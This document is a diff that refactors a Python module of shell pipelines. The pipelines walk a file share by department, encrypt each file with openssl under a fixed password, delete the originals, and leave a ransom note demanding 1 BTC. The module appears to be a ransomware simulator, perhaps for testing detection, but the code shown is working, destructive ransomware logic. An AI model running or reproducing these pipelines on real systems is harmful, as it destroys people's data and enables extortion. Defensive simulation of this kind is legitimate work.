@@ -39,26 +39,28 @@ FIND = "find . -type f ! -name '.*' ! -name '!*' ! -name '*.x' ! -name '*.enc'"
 # --- 1. multi-process pipelines ---------------------------------------------------------
 
 
+# find | xargs -P4: one `sh` per file runs openssl (encrypts) then rm (deletes).
+XARGS = (
+    "-print0 | xargs -0 -P4 -n1 sh -c "
+    "'openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in \"$1\" -out \"$1.x\" "
+    "&& rm -f -- \"$1\"' _"
+)
+
+
+def departments(root):
+    depts = [d for d in sorted(os.listdir(root)) if d[0] not in ".!"]
+    return [subdir(root, d) for d in depts if os.path.isdir(os.path.join(root, d))]
+
+
 def pipe_xargs(root):
-    """find | xargs -P4: one `sh` per file runs openssl (encrypts) then rm (deletes)."""
-    cmd = (
-        f"{FIND} -print0 | xargs -0 -P4 -n1 sh -c "
-        "'openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in \"$1\" -out \"$1.x\" "
-        "&& rm -f -- \"$1\"' _"
-    )
-    subprocess.run(["sh", "-c", cmd], cwd=root, check=True)
+    """find | xargs -P4 over the whole share."""
+    subprocess.run(["sh", "-c", f"{FIND} {XARGS}"], cwd=root, check=True)
 
 
 def pipe_xargs_per_dept(root):
     """The same xargs pipeline, started anew by the driver for each department."""
-    depts = [d for d in sorted(os.listdir(root)) if d[0] not in ".!"]
-    for dept in [subdir(root, d) for d in depts if os.path.isdir(os.path.join(root, d))]:
-        cmd = (
-            f"{FIND} -print0 | xargs -0 -P4 -n1 sh -c "
-            "'openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in \"$1\" -out \"$1.x\" "
-            "&& rm -f -- \"$1\"' _"
-        )
-        subprocess.run(["sh", "-c", cmd], cwd=dept)
+    for dept in departments(root):
+        subprocess.run(["sh", "-c", f"{FIND} {XARGS}"], cwd=dept)
 
 
 def pipe_notes(root):
@@ -68,14 +70,8 @@ def pipe_notes(root):
     note = os.path.join(root, ".note-src")
     with open(note, "w") as f:
         f.write("Your files are encrypted. Send 1 BTC to recover them.\n")
-    depts = [d for d in sorted(os.listdir(root)) if d[0] not in ".!"]
-    for dept in [subdir(root, d) for d in depts if os.path.isdir(os.path.join(root, d))]:
-        cmd = (
-            f"cp {note} HOW_TO_DECRYPT.txt && {FIND} ! -name HOW_TO_DECRYPT.txt -print0 "
-            "| xargs -0 -P4 -n1 sh -c "
-            "'openssl enc -aes-256-cbc -pbkdf2 -pass pass:hunter2 -in \"$1\" -out \"$1.x\" "
-            "&& rm -f -- \"$1\"' _"
-        )
+    for dept in departments(root):
+        cmd = f"cp {note} HOW_TO_DECRYPT.txt && {FIND} ! -name HOW_TO_DECRYPT.txt {XARGS}"
         subprocess.run(["sh", "-c", cmd], cwd=dept, check=True)
 
 
